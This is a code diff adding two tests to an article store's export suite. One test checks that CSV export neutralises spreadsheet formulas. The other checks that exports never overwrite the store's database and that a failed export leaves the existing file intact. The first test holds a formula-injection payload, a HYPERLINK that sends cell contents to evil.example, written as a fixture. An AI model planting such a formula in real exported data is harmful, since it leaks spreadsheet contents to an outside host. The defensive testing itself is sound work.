@@ -391,6 +391,23 @@ def test_csv_opens_in_the_csv_module_with_the_documented_columns(store):
     assert isinstance(json.loads(row["keywords"]), list) and row["title_inferred"] in ("true", "false")
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_text(seeds_db, tmp_path):
+    db = tmp_path / "formula.db"
+    shutil.copy(seeds_db, db)
+    store = Store(db)
+    aid = store.db.execute("SELECT MIN(id) FROM articles").fetchone()[0]
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    store.update_article(aid, title=formula)
+    buf = io.StringIO()
+    write_csv(store, buf, "articles")
+    row = next(r for r in csv.DictReader(io.StringIO(buf.getvalue())) if r["id"] == str(aid))
+    assert row["title"] == "'" + formula and not any(v.startswith(("=", "+", "@")) for v in row.values())
+    lines = io.StringIO()
+    write_jsonl(store, lines, "articles")
+    assert any(json.loads(line)["title"] == formula for line in lines.getvalue().splitlines())  # JSONL keeps it exactly
+    store.close()
+
+
 def test_parquet_opens_with_pyarrow_with_the_documented_types(store, tmp_path):
     pa = pytest.importorskip("pyarrow")
     pq = pytest.importorskip("pyarrow.parquet")
@@ -529,3 +546,21 @@ def test_cli_exports_and_imports(seeds_db, tmp_path):
     assert bad.exit_code != 0 and "only exported as jsonl" in bad.output
     again = runner.invoke(app, ["import", "jsonl", str(dump), "--db", str(new_db)])
     assert again.exit_code == 1 and "already holds data" in again.output
+
+
+def test_an_export_never_overwrites_the_store_and_a_failed_one_leaves_the_old_file(seeds_db, tmp_path):
+    db = tmp_path / "own.db"
+    shutil.copy(seeds_db, db)
+    before = Store(db).counts()
+    for args in (["export", "jsonl", "--what", "all", "-o", str(db)], ["export", "atom", "-o", str(db)],
+                 ["export", "csv", "-o", f"{db}-wal"], ["feeds", "export", str(db)]):
+        refused = runner.invoke(app, [*args, "--db", str(db)])
+        assert refused.exit_code == 2 and "is the store's own database" in refused.output, args
+    assert Store(db).counts() == before
+    kept = tmp_path / "kept.csv"
+    kept.write_text("precious\n")
+    failed = runner.invoke(app, ["export", "csv", "--what", "all", "-o", str(kept), "--db", str(db)])
+    assert failed.exit_code != 0 and kept.read_text() == "precious\n"
+    written = runner.invoke(app, ["export", "csv", "--what", "events", "-o", str(kept), "--db", str(db)])
+    assert written.exit_code == 0 and kept.read_text().startswith("id,")
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no part files left
